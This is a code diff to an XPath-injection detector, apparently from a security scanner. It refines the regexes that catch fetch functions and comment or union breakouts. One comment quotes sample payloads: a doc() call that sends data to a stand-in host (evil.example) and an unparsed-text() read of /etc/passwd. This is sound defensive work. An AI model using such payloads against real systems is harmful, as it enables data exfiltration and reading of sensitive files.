@@ -65,7 +65,7 @@ function pathBreakout(text: string): RegExpExecArray | null {
  * XPath 2.0's functions that fetch (`doc('http://evil.example/?'||...)`, `doc-available(concat(...))`,
  * `unparsed-text('/etc/passwd')`): after a breakout they send the document out or read a file.
  */
-const FETCH_FUNCTION = /\b(?:doc|doc-available|unparsed-text|unparsed-text-available|unparsed-text-lines|collection)\s*\(/gi;
+const FETCH_FUNCTION = /\b(?:doc|doc-available|unparsed-text(?:-available|-lines)?|collection)\s*\(/g;
 
 /**
  * A quoted string closed, then an XPath 2.0 comment (`(: ... :)`, which SQL and prose never write) where
@@ -76,7 +76,7 @@ const FETCH_FUNCTION = /\b(?:doc|doc-available|unparsed-text|unparsed-text-avail
 const COMMENT_BREAKOUT = /['"][\s)\]]*\(:[^\r\n]{0,200}?:\)\s*(?:or\b|and\b|\|)\s*(?:\(:[^\r\n]{0,200}?:\)\s*)?['"\d(@/]/i;
 
 /** Cheap check, one pass: something each construct below needs. */
-const XPATH_HINT = /\(:|\b(?:doc|doc-available|unparsed-text[\w-]*|collection)\s*\(|\[[^\][]{0,200}?\bor\s|['"][\s)]*\]\s*[/[]|\(\s*(?:\)|name\s*\(|[/.@*]|child::|parent::|self::|descendant::|ancestor::)|::|\/\/[\w*][\w.-]*\[|\]\s*\|/;
+const XPATH_HINT = new RegExp(`${FETCH_FUNCTION.source}|${/\(:|\[[^\][]{0,200}?\bor\s|['"][\s)]*\]\s*[/[]|\(\s*(?:\)|name\s*\(|[/.@*]|child::|parent::|self::|descendant::|ancestor::)|::|\/\/[\w*][\w.-]*\[|\]\s*\|/.source}`);
 /**
  * Just before a construct: a quoted string (and any predicate or call it sat in) closed, then `or`,
  * `and` or `|`; or the union `|` alone, which joins a second path to the query.
